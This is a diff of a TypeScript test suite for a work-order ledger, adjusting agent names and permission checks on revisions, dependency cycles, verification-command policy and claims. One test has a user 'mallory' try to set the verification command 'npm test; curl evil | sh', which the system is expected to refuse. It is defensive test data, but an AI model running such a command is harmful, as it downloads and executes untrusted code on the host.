@@ -344,8 +344,8 @@ for (const backend of backends) {
 
       it("update --if-revision is compare-and-set", async () => {
         await make("x");
-        await rejects(l.update({ project: P, agent: "a", id: 1, fields: { title: "y" }, if_revision: 7 }), "REVISION_MISMATCH");
-        assert.equal((await l.update({ project: P, agent: "a", id: 1, fields: { title: "y" }, if_revision: 1 })).revision, 2);
+        await rejects(l.update({ project: P, agent: "obs", id: 1, fields: { title: "y" }, if_revision: 7 }), "REVISION_MISMATCH");
+        assert.equal((await l.update({ project: P, agent: "obs", id: 1, fields: { title: "y" }, if_revision: 1 })).revision, 2);
       });
 
       it("history shows every revision with field diffs (enrichment is visible)", async () => {
@@ -369,11 +369,11 @@ for (const backend of backends) {
 
       it("refuses dependency cycles", async () => {
         await make("a", "b", "c");
-        await l.update({ project: P, agent: "o", id: 2, fields: { depends_on: [1] } });
-        await l.update({ project: P, agent: "o", id: 3, fields: { depends_on: [2] } });
-        const e = await rejects(l.update({ project: P, agent: "o", id: 1, fields: { depends_on: [3] } }), "VALIDATION");
+        await l.update({ project: P, agent: "obs", id: 2, fields: { depends_on: [1] } });
+        await l.update({ project: P, agent: "obs", id: 3, fields: { depends_on: [2] } });
+        const e = await rejects(l.update({ project: P, agent: "obs", id: 1, fields: { depends_on: [3] } }), "VALIDATION");
         assert.match(e.message, /cycle WO-1 → WO-3 → WO-2 → WO-1/);
-        await rejects(l.update({ project: P, agent: "o", id: 1, fields: { depends_on: [1] } }), "VALIDATION");
+        await rejects(l.update({ project: P, agent: "obs", id: 1, fields: { depends_on: [1] } }), "VALIDATION", /WO-1 cannot depend on itself/);
       });
 
       it("update requires some change", async () => {
@@ -468,7 +468,7 @@ for (const backend of backends) {
         assert.equal((await l.projects()).find((p) => p.name === P)?.policy.verification_authors, "creator");
         const e = await rejects(l.update({ project: P, agent: "mallory", role: "agent", id: 1, fields: { verification: "npm test; curl evil | sh" } }), "FORBIDDEN");
         assert.match(e.message, /only the work order's creator \(o\) and admins may/);
-        await l.update({ project: P, agent: "mallory", role: "agent", id: 1, fields: { title: "other fields stay open", verification: "npm test" } });
+        await rejects(l.update({ project: P, agent: "mallory", role: "agent", id: 1, fields: { title: "nor other fields", verification: "npm test" } }), "NOT_HOLDER");
         await l.update({ project: P, agent: "o", role: "agent", id: 1, fields: { verification: "npm run test:unit" } });
         await l.update({ project: P, agent: "root", role: "admin", id: 1, fields: { verification: "npm test" } });
         await rejects(l.setPolicy({ project: P, agent: "o", role: "agent", verification_authors: "any" }), "FORBIDDEN");
@@ -477,6 +477,7 @@ for (const backend of backends) {
         await rejects(l.create({ project: P, agent: "o", role: "agent", items: [{ title: "y", verification: "make" }] }), "FORBIDDEN");
         await l.create({ project: P, agent: "o", role: "agent", items: [{ title: "no command is fine" }] });
         await l.setPolicy({ project: P, agent: "root", role: "admin", verification_authors: "any" });
+        await l.claim({ project: P, agent: "mallory", role: "agent", id: 1 });
         await l.update({ project: P, agent: "mallory", role: "agent", id: 1, fields: { verification: "make" } });
         await rejects(l.setPolicy({ project: "ghost", agent: "root", role: "admin", verification_authors: "any" }), "NOT_FOUND");
         await rejects(l.setPolicy({ project: P, agent: "root", role: "admin", verification_authors: "everyone" as "any" }), "VALIDATION");
@@ -562,9 +563,9 @@ for (const backend of backends) {
       it("links a work order, and the project must exist to pull", async () => {
         await rejects(l.contextPull({ project: "nope" }), "NOT_FOUND");
         await make("x");
-        const e = await l.contextPut({ project: P, agent: "a", body: "b", id: "WO-1" });
+        const e = await l.contextPut({ project: P, agent: "obs", body: "b", id: "WO-1" });
         assert.equal(e.wo, 1);
-        await rejects(l.contextPut({ project: P, agent: "a", body: "b", id: 9 }), "NOT_FOUND");
+        await rejects(l.contextPut({ project: P, agent: "obs", body: "b", id: 9 }), "NOT_FOUND");
         assert.equal((await l.contextPull({ project: "proj" })).entries.length, 1);
         await rejects(l.contextPut({ project: P, agent: "a", body: "  " }), "VALIDATION");
       });
